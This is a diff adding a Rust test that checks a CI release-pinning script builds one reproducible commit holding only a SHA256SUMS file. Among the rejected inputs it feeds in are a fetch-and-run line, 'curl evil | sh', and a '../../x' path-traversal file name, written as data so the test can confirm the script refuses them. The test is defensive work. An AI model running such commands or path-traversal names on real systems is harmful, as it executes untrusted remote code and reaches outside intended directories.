@@ -97,3 +97,39 @@ fn every_image_is_pinned_by_its_digest() {
     }
     assert_eq!(seen, 3, "two stages of the image, and where the tests run");
 }
+
+/// What a command says, where it succeeds.
+fn said(place: &Path, program: &str, arguments: &[&str]) -> Option<String> {
+    let identity =
+        ["AUTHOR", "COMMITTER"].map(|who| [(format!("GIT_{who}_NAME"), "x"), (format!("GIT_{who}_EMAIL"), "x")]);
+    let mut command = std::process::Command::new(program);
+    let output = command.current_dir(place).args(arguments).envs(identity.into_iter().flatten()).output().unwrap();
+    output.status.success().then(|| String::from_utf8(output.stdout).unwrap().trim_end().to_owned())
+}
+
+#[test]
+fn the_commit_to_pin_is_the_released_one_and_the_sums_alone() {
+    let place = tempfile::tempdir().unwrap();
+    let git = |arguments: &[&str]| said(place.path(), "git", arguments).unwrap();
+    std::fs::write(place.path().join("action.yml"), "name: x\n").unwrap();
+    git(&["init", "--quiet"]);
+    git(&["add", "."]);
+    git(&["commit", "--quiet", "--message", "released"]);
+    let released = git(&["rev-parse", "HEAD"]);
+    let pin = Path::new(HERE).join(".ci/release/pin");
+    let sums = place.path().join("SHA256SUMS");
+    let line = |version: &str, system: &str| format!("{}  countersign-{version}-{system}\n", "ab".repeat(32));
+    let named = line("v1.2.3", "Linux-X64") + &line("v1.2.3", "macOS-ARM64");
+    std::fs::write(&sums, &named).unwrap();
+    let pinned = || said(place.path(), pin.to_str().unwrap(), &["SHA256SUMS", "v1.2.3"]);
+    let commit = pinned().unwrap();
+    assert_eq!(git(&["rev-parse", &format!("{commit}^@")]), released, "its only parent");
+    assert_eq!(git(&["diff", "--name-status", &released, &commit]), "A\taction/release.sums");
+    assert_eq!(git(&["show", &format!("{commit}:action/release.sums")]), named.trim_end());
+    assert_eq!(pinned().unwrap(), commit, "made again, it is the same");
+    assert_eq!(git(&["status", "--porcelain"]), "?? SHA256SUMS", "nothing here is touched");
+    for wrong in [String::new(), line("v1.2.4", "Linux-X64"), named + "curl evil | sh\n", line("v1.2.3", "../../x")] {
+        std::fs::write(&sums, wrong).unwrap();
+        assert_eq!(pinned(), None);
+    }
+}
